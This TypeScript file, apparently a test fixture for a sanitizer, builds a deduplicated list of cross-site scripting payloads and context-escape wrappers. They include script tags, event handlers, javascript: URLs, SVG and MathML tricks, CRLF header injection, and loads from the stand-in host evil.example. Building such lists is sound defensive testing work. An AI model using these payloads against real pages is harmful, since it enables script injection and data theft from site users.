/** What does something where it gets into a page as markup: by an element, an attribute, an address, a style. */
const cores = [
  '<script>window.hurt=1</script>',
  '<script src=//evil.example/x.js></script>',
  '<img src=x onerror=window.hurt=1>',
  '<svg/onload=window.hurt=1>',
  '<svg><animate onbegin=window.hurt=1 attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:window.hurt=1"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.hurt=1>',
  '<iframe srcdoc="<script>parent.hurt=1</script>"></iframe>',
  '<iframe src="javascript:parent.hurt=1"></iframe>',
  '<object data="data:text/html;base64,PHNjcmlwdD4="></object>',
  '<embed src="javascript:window.hurt=1">',
  '<a href="javascript:window.hurt=1">x</a>',
  '<a href="jAvA&Tab;script:window.hurt=1">x</a>',
  '<body onload=window.hurt=1>',
  '<input autofocus onfocus=window.hurt=1>',
  '<select autofocus onfocus=window.hurt=1>',
  '<details open ontoggle=window.hurt=1>',
  '<video><source onerror=window.hurt=1></video>',
  '<audio src onerror=window.hurt=1></audio>',
  '<marquee onstart=window.hurt=1>',
  '<form action="javascript:window.hurt=1"><button>x</button></form>',
  '<button formaction="javascript:window.hurt=1">x</button>',
  '<meta http-equiv=refresh content="0;url=javascript:window.hurt=1">',
  '<base href="//evil.example/">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import "//evil.example/x.css";</style>',
  '<b onclick=window.hurt=1 style="position:fixed;inset:0">x</b>',
  '<template><script>window.hurt=1</script></template>',
  '<xmp><p title="</xmp><svg/onload=window.hurt=1>">',
  '" onmouseover="window.hurt=1',
  '[x](javascript:window.hurt=1)',
  '![x](https://evil.example/pixel.gif)',
]

/** Ways out of where a text stands: an attribute, a comment, an element, a line, a field. */
const ways: ((core: string) => string)[] = [
  (core) => core,
  (core) => `">${core}`,
  (core) => `'>${core}`,
  (core) => `-->${core}<!--`,
  (core) => `</title></style></textarea></script>${core}`,
  (core) => `]]>${core}`,
  (core) => core.toUpperCase().replaceAll('WINDOW.HURT', 'window.hurt'),
  (core) => core.replaceAll('<', '&lt;').replaceAll('>', '&#62;'),
  (core) => core.replaceAll('<', '<<'),
  (core) => `x\r\nX-Hurt: 1\r\n\r\n${core}`,
]

/** Texts that would run, load or change something in a page, a mail or a file that took them for more than text. Source:
 *  trust.md G10. */
export const hostileTexts: readonly string[] = [...new Set(cores.flatMap((core) => ways.map((way) => way(core))))]
